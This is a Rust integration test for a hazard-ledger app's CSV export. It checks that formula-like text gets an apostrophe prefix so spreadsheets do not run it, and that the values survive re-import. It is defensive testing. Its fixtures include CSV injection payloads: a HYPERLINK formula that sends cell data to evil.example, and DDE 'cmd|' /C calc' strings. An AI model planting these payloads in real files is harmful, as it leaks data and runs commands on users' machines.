//! CSV injection, on both engines: text a spreadsheet would run as a formula (`=HYPERLINK(…)`,
//! `@SUM(…)`, `+…`, `-…`) leaves a CSV export with an apostrophe in front, so opening the file
//! runs nothing; numbers, negative ones included, stay numbers; and the export imports back
//! as the same text (every row 未变). (A leading tab or carriage return gets the apostrophe
//! too — `csv_out`'s own test — but an import trims it from any file, CSV or Excel.)

mod common;
use common::*;

use taizhang_domain::role::Actor;
use taizhang_domain::value::{RecordInput, Value, Values};
use taizhang_exchange::{export_ledger, import_file, ExportQuery, ImportOptions};
use taizhang_storage::records::{self, RecordQuery};
use taizhang_storage::{ledgers, Db, Scope};

const LINK: &str = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"点击查看整改照片\")";
const CMD: &str = "-2+3+cmd|' /C calc'!A0";

both!(formulas_in_a_csv_export_are_inert_and_import_back_as_text, |db: Db| async move {
    let t = town(&db).await;
    let values: Values = [
        ("found_on", Value::Date(d("2023-05-06"))),
        ("industry", Value::Text("燃气".into())),
        ("level", Value::Text("一般".into())),
        ("location", Value::Text("@SUM(1+1)*cmd|' /C calc'!A0".into())),
        ("description", Value::Text(LINK.into())),
        ("found_by", Value::Text("+86 138".into())),
        ("rectify_measures", Value::Text("=1+1".into())),
        ("rectify_standard", Value::Text("-12.5".into())),
        ("remarks", Value::Text(CMD.into())),
    ]
    .into_iter()
    .map(|(k, v)| (k.to_string(), v))
    .collect();
    let mut tx = db.begin().await.expect("begin");
    let def = ledgers::get(&mut tx, "hazards").await.expect("def");
    records::create(&mut tx, &def, &Actor::System, &Scope::all(), RecordInput { place_id: Some(t.maopo.id), values: values.clone(), ..Default::default() }, today())
        .await
        .expect("record");
    tx.commit().await.expect("commit");

    let dir = tempfile::tempdir().expect("tmp");
    let path = dir.path().join("隐患.csv");
    assert_eq!(export_ledger(&db, &Scope::all(), "hazards", &ExportQuery::default(), &path, false).await.expect("export"), 1);
    let text = std::fs::read_to_string(&path).expect("read");
    // Each formula-like text is written behind an apostrophe (quoted or not, as CSV needs).
    for written in ["'=HYPERLINK(", "'@SUM(1+1)", "'+86 138", "'=1+1", "'-2+3+cmd"] {
        assert!(text.contains(written), "{written:?} in {text}");
    }
    // No field of the file starts with a formula character, except a plain number.
    let fields: Vec<&str> = text.lines().skip(1).flat_map(|l| l.split(',')).map(|f| f.trim_start_matches('"')).collect();
    for f in &fields {
        let formula = f.starts_with(['=', '+', '@', '\t', '\r']) || (f.starts_with('-') && f.parse::<f64>().is_err());
        assert!(!formula, "a field a spreadsheet would run: {f:?}");
    }
    assert!(fields.contains(&"-12.5"), "a number stays a number: {fields:?}");

    // Imported back, every value is the text it was: nothing changes.
    let audits = audit_count(&db).await;
    let opts = ImportOptions { ledger: Some("hazards".into()), ..Default::default() };
    let r = import_file(&db, &Actor::System, &Scope::all(), &path, &opts, today()).await.expect("import");
    let mut tx = db.read().await.expect("read");
    let def = ledgers::get(&mut tx, "hazards").await.expect("def");
    let stored = records::list(&mut tx, &def, &Scope::all(), &RecordQuery::default()).await.expect("list");
    for (k, v) in &values {
        assert_eq!(stored[0].values.get(k), Some(v), "{k}");
    }
    assert_eq!((r.read, r.unchanged, r.rejected), (1, 1, 0), "{:?}", r.rejections);
    assert_eq!(audit_count(&db).await, audits);
});
